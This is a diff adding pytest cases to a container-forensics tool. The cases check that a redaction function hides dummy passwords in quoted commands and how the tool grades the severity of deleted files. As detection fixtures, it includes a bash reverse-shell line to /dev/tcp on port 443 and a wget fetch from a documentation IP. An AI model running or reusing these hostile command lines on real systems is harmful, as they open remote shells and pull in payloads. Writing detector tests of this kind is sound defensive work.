@@ -8,6 +8,7 @@ import pytest
 
 from forensics.findings.all import find, texts
 from forensics.findings.attack import TECHNIQUES
+from forensics.findings.redact import redacted
 from forensics.findings.rule import SEVERITIES
 from forensics.findings.scene import Scene
 from forensics.findings.yara import compiled, yara_rule
@@ -86,6 +87,23 @@ def test_secrets_in_commands_labels_and_images(builder):
     assert found(builder, "secret-image") == [("medium", "secret in container image shop:1: API_TOKEN, DB_PASSWORD")]
     told = [f.detail + f.title for _text, findings in find(Scene(builder.db, {})) for f in findings]
     assert told and not any("hunter2x" in each for each in told)
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["mysqldump -psw0rdfish db", "curl -u admin:sw0rdfish https://x", "curl --user=admin:sw0rdfish x",
+     "export DB_PASSWORD=sw0rdfish",
+     '{"password": "sw0rdfish"}', "psql postgres://u:sw0rdfish@db/x", "app --token sw0rdfish", "Authorization: Bearer sw0rdfish",
+     "app --api-key=sw0rdfish -v"],
+)  # fmt: skip
+def test_what_is_quoted_has_no_secrets(line):
+    assert "sw0rdfish" not in redacted(line)
+    assert "9 characters" in redacted(line)
+
+
+def test_what_is_quoted_is_one_short_line():
+    assert redacted("a\nb\tc") == "a b c"
+    assert len(redacted("x" * 10_000)) < 300
 
 
 # -- what containers were started to do
@@ -189,6 +207,40 @@ def test_files_deleted_while_open(builder):
     builder.insert("deleted_file", method="orphan", path="/tmp/y", mode=0o600, **base)
     builder.insert("deleted_file", method="journal", path="/tmp/z", mode=0o755, **base)
     assert [severity for severity, _title in found(builder, "deleted-open")] == ["high", "low"]
+
+
+def deleted(web, path, mode):
+    """A deleted file of the container's; answers its number."""
+    row = {"partition": 1, "type": "f", "size": 99, "method": "journal", "confidence": "certain"}
+    return web.builder.insert("deleted_file", container=web.container, path=path, mode=mode, **row)
+
+
+@pytest.mark.parametrize(
+    ("path", "content", "mode", "severity"),
+    [
+        (b"/tmp/d.sh", b"#!/bin/sh\nwget http://198.51.100.7/x\n", 0o644, "high"),
+        (b"/opt/d.sh", b"#!/bin/sh\nwget http://198.51.100.7/x\n", 0o644, "medium"),
+        (b"/opt/d.sh", b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n", 0o644, "high"),
+        (b"/tmp/x", b"\x7fELF" + bytes(60), 0o755, "medium"),
+        (b"/tmp/configure", b"#!/bin/sh\n", 0o755, "low"),
+        (b"/usr/bin/x", b"\x7fELF" + bytes(60), 0o755, None),
+        (b"/tmp/data", b"a,b\n", 0o644, None),
+        (b"/tmp/lost", b"", 0o755, None),
+    ],
+)
+def test_deleted_programs(tmp_path, path, content, mode, severity):
+    web = OneContainer(tmp_path / "c.db")
+    number = deleted(web, path.decode(), mode)
+    if content:
+        web.contents.files[-number] = content
+    assert [each[0] for each in web.found("deleted-program")] == ([] if severity is None else [severity])
+
+
+def test_what_a_removed_container_had_is_not_told_as_deleted(tmp_path):
+    web = OneContainer(tmp_path / "c.db", origin="recovered")
+    number = deleted(web, "/tmp/x", 0o755)
+    web.contents.files[-number] = b"\x7fELF"
+    assert web.found("deleted-program") == []
 
 
 def test_logs_of_the_image_that_were_deleted(tmp_path):
